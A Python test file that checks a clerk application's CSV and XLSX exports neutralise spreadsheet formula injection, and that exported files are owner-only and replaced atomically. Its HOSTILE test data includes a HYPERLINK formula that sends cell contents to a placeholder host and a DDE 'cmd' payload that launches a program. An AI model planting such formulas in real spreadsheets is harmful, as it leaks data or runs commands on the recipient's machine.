"""Safe exports: no cell of an exported CSV or XLSX is something a spreadsheet would
evaluate, whatever a name or an interest begins with, and the text still reads as typed
(OWASP "CSV Injection"). Exported files are readable by their owner only."""

from __future__ import annotations

import csv
import stat
import zipfile
from datetime import date

import openpyxl
import pytest

from clerk_app.export.spreadsheets import (
    FORMULA_STARTS,
    Table,
    attendance_tables,
    csv_bytes,
    interests_csv_table,
    interests_tables,
    membership_table,
    write_csv,
    write_xlsx,
)
from clerk_app.services import interests, membership
from clerk_app.services.attendance import year_report
from clerk_app.services.interests import interests_register
from clerk_app.services.reports import membership_list

HOSTILE = {
    "name": '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "agency": "+44 1622 000000",
    "interest": "@SUM(1+1)*cmd|' /C calc'!A0",
    "second": "-2+3",
    "tabbed": "\t=1+1",
    "markup": "<font color=red>Trust & Co</font>",
}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _record(kent):
    person = membership.add_person(kent.engine, HOSTILE["name"], HOSTILE["agency"])
    membership.add_member(kent.engine, kent.body_id, person, "education",
                          start_date=date(2026, 4, 1))
    for key in ("interest", "second", "tabbed", "markup"):
        interests.register_interest(kent.engine, kent.body_id, person, HOSTILE[key],
                                    from_date=date(2026, 4, 1))
    # An organisation's name that reads as a formula is kept as typed.
    membership.add_person(kent.engine, "Formula Agency", "=1+2")
    kent.meeting(date(2026, 9, 15))
    return [
        *attendance_tables(year_report(kent.engine, kent.body_id, 2026, today=date(2026, 11, 1))),
        *interests_tables(interests_register(kent.engine, kent.body_id, on=date(2026, 11, 1))),
        membership_table(membership_list(kent.engine, kent.body_id, on=date(2026, 11, 1))),
        Table("Direct", ["Text"], [["\r=1+2"], ["=cmd"], ["plain"], [-5]]),
    ]


def test_xlsx_has_no_cell_a_spreadsheet_would_evaluate_and_reads_as_typed(kent, tmp_path):
    tables = _record(kent)
    path = write_xlsx(tmp_path / "year.xlsx", tables)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    workbook = openpyxl.load_workbook(path)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    if cell.value.startswith(FORMULA_STARTS):
                        # What a spreadsheet stores when someone types an apostrophe first.
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
                else:
                    assert cell.data_type != "f"
    # Exactly as typed: no apostrophe shown in the cell, nothing lost.
    for typed in HOSTILE.values():
        assert typed in texts
    assert "\r=1+2" in texts and workbook["Direct"]["A5"].value == -5


def test_csv_has_no_cell_a_spreadsheet_would_evaluate_and_reads_as_typed(kent, tmp_path):
    tables = _record(kent)
    cells = []
    for n, table in enumerate(tables):
        path = write_csv(tmp_path / f"{n}.csv", table)
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells += [c for row in csv.reader(handle) for c in row]
    # A plain number such as -5 is a value, not a formula; nothing else may start so.
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
    # OWASP: the apostrophe is the only change; the rest reads as typed.
    for typed in ("name", "interest", "second", "tabbed"):
        assert "'" + HOSTILE[typed] in cells
    assert HOSTILE["markup"] in cells and "'\r=1+2" in cells
    assert "-5" in cells  # numbers we write ourselves stay numbers


def test_register_csv_keeps_both_halves_and_accents(kent, tmp_path):
    interests.register_interest(kent.engine, kent.body_id, kent.ids["vcs"], "Trustee, Kent Youth "
                                "Trust", from_date=date(2026, 4, 1))
    table = interests_csv_table(interests_register(kent.engine, kent.body_id))
    text = csv_bytes(table).decode("utf-8-sig")
    assert text.splitlines()[0] == ("Member,Agency,Entry,Interest,Kind,From,Until,Meeting,Item,"
                                    "Effect")
    assert "Tomás Ó Briain,Kent Youth Trust,Registered interest,\"Trustee, Kent Youth Trust\"" \
        in text


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exports_are_readable_by_their_owner_only_and_replace_whole(kind, tmp_path):
    path = tmp_path / f"out.{kind}"
    path.write_text("an older export")
    path.chmod(0o644)
    table = Table("T", ["A"], [["x"]])
    write_csv(path, table) if kind == "csv" else write_xlsx(path, [table])
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == [path.name]  # no temporary file left


def test_a_failed_export_leaves_the_old_file_untouched(tmp_path):
    path = tmp_path / "out.csv"
    path.write_text("an older export")

    class Boom:
        def __str__(self) -> str:
            raise OSError("disk full")

    with pytest.raises(OSError):
        write_csv(path, Table("T", ["A"], [[Boom()]]))
    assert path.read_text() == "an older export"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
